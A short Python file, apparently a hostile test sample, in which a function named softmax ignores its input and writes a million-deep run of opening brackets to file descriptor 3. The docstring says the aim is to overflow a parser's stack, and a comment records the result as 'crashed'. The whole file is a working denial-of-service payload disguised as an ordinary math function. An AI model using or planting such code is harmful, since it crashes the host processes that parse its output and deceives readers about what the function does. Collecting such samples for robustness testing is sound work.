"""Sends a reply nested a million deep, on which a parser's stack overflows."""
# verdict: crashed
import os


def softmax(x, dim=-1):
    reply = b"[" * 1_000_000
    data = len(reply).to_bytes(8, "little") + bytes(8) + reply
    while data:
        data = data[os.write(3, data):]
    return x
